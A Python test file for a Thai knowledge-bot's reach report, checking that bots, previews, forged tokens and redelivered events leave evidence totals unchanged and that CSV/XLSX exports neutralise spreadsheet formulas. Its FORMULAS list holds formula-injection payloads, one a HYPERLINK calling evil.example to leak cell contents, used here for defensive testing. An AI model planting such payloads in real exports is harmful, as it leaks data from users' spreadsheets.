"""Attacks on the reach figures: none of them moves an evidence figure, every cell stays inert.

Each test takes the report before an attack, runs it (anonymous and robot page views, the
secretary's previews, simulator chats, a forged read-more token, a redelivered event across a
month boundary, formula payloads) and checks the evidence totals afterwards.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

import time_machine
from rich.cells import cell_len
from openpyxl import load_workbook
from sqlalchemy import select

from bot.core.calendar import BANGKOK
from bot.core.read_token import read_token_key, sign_read_token
from bot.core.tables import InteractionEvent, User
from bot.reach.export import render, to_table_text
from bot.reach.queries import collect_report
from bot.web.extensions import get_config, get_search
from bot.web.simulator import simulate_text
from bot.web.webhook import EventServices
from kb.gaps import record_gap
from kb.tables import Article

PERSON = "U" + "d" * 32


def report_of(app, database, fiscal_year: int = 2567, month: str | None = None):  # type: ignore[no-untyped-def]
    with database.session() as session:
        return collect_report(session, fiscal_year, month, staff_count=10)


def totals(app, database) -> dict[str, int]:  # type: ignore[no-untyped-def]
    return report_of(app, database).totals.as_dict()


def an_article(database) -> int:  # type: ignore[no-untyped-def]
    with database.session() as session:
        return session.scalars(select(Article.id).where(Article.status == "published").order_by(Article.id)).first()


BROWSER = {"User-Agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Line/14.1.0"}


def test_anonymous_robot_preview_and_simulator_traffic_moves_no_evidence_figure(app, client, database, starter_pack):
    article_id = an_article(database)
    with time_machine.travel(datetime(2024, 3, 5, 10, 0, tzinfo=BANGKOK), tick=False):
        before = totals(app, database)
        for _ in range(200):
            assert client.get(f"/kb/{article_id}", headers=BROWSER).status_code == 200
        client.get(f"/kb/{article_id}?from=line", headers=BROWSER)  # no token
        client.get(f"/kb/{article_id}?from=line&t=forged.token.value", headers=BROWSER)
        client.get(f"/kb/{article_id}", headers={"User-Agent": "W3C-checklink/5.0 libwww-perl"})
        client.get(f"/kb/{article_id}", headers={"User-Agent": "facebookexternalhit/1.1;line-poker/1.0"})
        client.head(f"/kb/{article_id}", headers=BROWSER)
        client.get(f"/kb/{article_id}?from=preview", headers=BROWSER)
        with app.app_context():
            services = EventServices(database, get_config(), None, get_search(), "http://localhost/")
            for kind in ("web", "admin"):
                for text in ("ความรู้ฝังลึกคืออะไร", "ลาพักผ่อนได้กี่วัน", "/survey 5"):
                    simulate_text(text, f"web-{kind}-tester", services, kind)
        after = report_of(app, database)
    assert after.totals.as_dict() == before
    shown = {channel.channel: channel for channel in after.by_channel}
    assert shown["anon"].kind_counts["article_view"] == 202 and not shown["anon"].evidence
    assert shown["crawler"].kind_counts["article_view"] == 3
    assert shown["preview"].kind_counts["article_view"] == 1
    assert shown["web"].kind_counts["question"] == 2 and not shown["web"].evidence
    assert shown["web"].distinct_users == 1
    assert shown["admin"].kind_counts["question"] == 2 and not shown["admin"].evidence


def test_a_signed_link_counts_one_reader_once_a_day_and_only_for_its_article(app, client, database, starter_pack):
    article_id = an_article(database)
    with database.session() as session:
        user = User(line_user_id=PERSON)
        session.add(user)
        session.flush()
        user_row = user.id
    key = read_token_key(app.config["KMBOT"])
    with time_machine.travel(datetime(2024, 3, 5, 10, 0, tzinfo=BANGKOK), tick=False):
        token = sign_read_token(key, user_row, article_id)
        assert PERSON not in token
        for _ in range(5):
            client.get(f"/kb/{article_id}?from=line&t={token}", headers=BROWSER)
        client.get(f"/kb/{article_id + 1}?from=line&t={token}", headers=BROWSER)  # another article: anonymous
    with time_machine.travel(datetime(2024, 3, 6, 10, 0, tzinfo=BANGKOK), tick=False):
        client.get(f"/kb/{article_id}?from=line&t={token}", headers=BROWSER)
    with time_machine.travel(datetime(2024, 9, 1, 10, 0, tzinfo=BANGKOK), tick=False):  # expired (over 60 days)
        client.get(f"/kb/{article_id}?from=line&t={token}", headers=BROWSER)
        report = report_of(app, database)
    assert report.totals.article_views == 2  # 5 March and 6 March
    assert report.totals.distinct_users == 1


def test_a_redelivered_event_is_dated_when_it_happened(app, webhook, line_events, database, starter_pack):
    happened = datetime(2024, 3, 31, 23, 59, tzinfo=BANGKOK)
    event: dict[str, Any] = line_events.text("ความรู้ฝังลึกคืออะไร", line_events.user(PERSON))
    event["timestamp"] = int(happened.timestamp() * 1000)
    event["deliveryContext"] = {"isRedelivery": True}
    with time_machine.travel(datetime(2024, 4, 1, 0, 20, tzinfo=BANGKOK), tick=False):
        assert webhook.send(event).status_code == 200
    march = report_of(app, database, month="2567-03").totals
    april = report_of(app, database, month="2567-04").totals
    assert (march.questions, april.questions) == (1, 0)
    with database.session() as session:
        channels = set(session.scalars(select(InteractionEvent.channel).where(InteractionEvent.kind == "question")))
    assert channels == {"1:1"}


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_formula_payloads_are_inert_in_csv_and_xlsx(app, database, starter_pack):
    article_id = an_article(database)
    with database.session() as session:
        for text in FORMULAS:
            record_gap(session, text, datetime(2024, 3, 5, 9, 0, tzinfo=BANGKOK))
        session.get(Article, article_id).title = FORMULAS[0]
        session.add(InteractionEvent(kind="answer", channel="1:1", occurred_at=datetime(2024, 3, 5, 9, 0, tzinfo=BANGKOK),
                                     article_id=article_id))
        session.add(InteractionEvent(kind="feedback", channel="1:1", occurred_at=datetime(2024, 3, 5, 9, 0, tzinfo=BANGKOK),
                                     article_id=article_id, value=0))
        session.add(InteractionEvent(kind="survey_answer", channel="1:1", occurred_at=datetime(2024, 3, 5, 9, 0, tzinfo=BANGKOK),
                                     value=2, detail={"comment": FORMULAS[1]}))
    report = report_of(app, database)
    assert report.comments and report.article_feedback
    workbook = load_workbook(io.BytesIO(render(report, "xlsx")))
    strings = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip("\t\r").startswith(("=", "+", "@")):
                    strings += 1
    assert strings >= len(FORMULAS)
    text = render(report, "csv").decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not (cell and cell != "-" and cell[0] in "=+-@\t\r"), cell


def test_xlsx_is_fit_to_file_and_the_table_to_80_columns(app, database):
    app.config["KMBOT"] = app.config["KMBOT"].with_overrides({"organisation_name": "องค์การบริหารส่วนจังหวัดทดสอบ"})
    with database.session() as session:
        session.add(InteractionEvent(kind="question", channel="1:1", occurred_at=datetime(2024, 3, 5, 9, 0, tzinfo=BANGKOK)))
        session.add(InteractionEvent(kind="answer", channel="1:1", occurred_at=datetime(2024, 3, 5, 9, 0, tzinfo=BANGKOK)))
        report = collect_report(session, 2567, staff_count=10, organisation="องค์การบริหารส่วนจังหวัดทดสอบ")
    workbook = load_workbook(io.BytesIO(render(report, "xlsx")))
    months = workbook["รายเดือน"]
    assert "องค์การบริหารส่วนจังหวัดทดสอบ" in months["A1"].value and "2567" in months["A1"].value
    assert months.page_setup.orientation == "landscape" and months.page_setup.fitToWidth == 1
    assert months.sheet_properties.pageSetUpPr.fitToPage
    assert str(months.print_title_rows) == "$3:$3"
    answer_rate = [cell for cell in months[3] if cell.value == "อัตราการตอบได้ (ร้อยละ)"][0]
    total = months.cell(row=len(report.months) + 4, column=answer_rate.column)
    assert total.value == 1.0 and total.number_format == "0.0%"
    assert months.cell(row=4, column=answer_rate.column).value is None  # no question in October: empty, not "-"
    assert months.cell(row=4, column=3).number_format == "#,##0"
    lines = to_table_text(report).splitlines()
    assert lines and max(cell_len(line) for line in lines) <= 80  # terminal cells: Thai marks take none


def test_push_recipients_are_message_units_and_reminders_are_apart(app, database):
    with database.session() as session:
        for day in range(1, 4):
            session.add(InteractionEvent(kind="reminder_push", channel="group", recipients=12,
                                         occurred_at=datetime(2024, 3, day, 9, 0, tzinfo=BANGKOK)))
        session.add(InteractionEvent(kind="knowledge_push", channel="group", recipients=30,
                                     occurred_at=datetime(2024, 3, 4, 9, 0, tzinfo=BANGKOK)))
    report = report_of(app, database)
    assert (report.totals.reminder_pushes, report.totals.knowledge_pushes, report.totals.push_recipients) == (3, 1, 66)
    from bot.reach.figures import FIGURE_HEADINGS

    assert "คน" not in FIGURE_HEADINGS["push_recipients"] and "หน่วยข้อความ" in FIGURE_HEADINGS["push_recipients"]
    by_channel = {channel.channel: channel for channel in report.by_channel}
    assert by_channel["push"].evidence and by_channel["push"].push_recipients == 66


def test_every_indicator_has_a_rule_and_unmeasured_plan_targets_are_listed(app, database, imported_plan):
    report = report_of(app, database)
    assert all(indicator.rule for indicator in report.indicators)
    assert all(indicator.events is not None for indicator in report.indicators if indicator.measured)
    unmeasured = [indicator for indicator in report.indicators if not indicator.measured]
    assert any("เข้าใจ" in indicator.name and indicator.target == 70 for indicator in unmeasured)
    assert all(indicator.value is None and "หลักฐาน" in indicator.note for indicator in unmeasured)
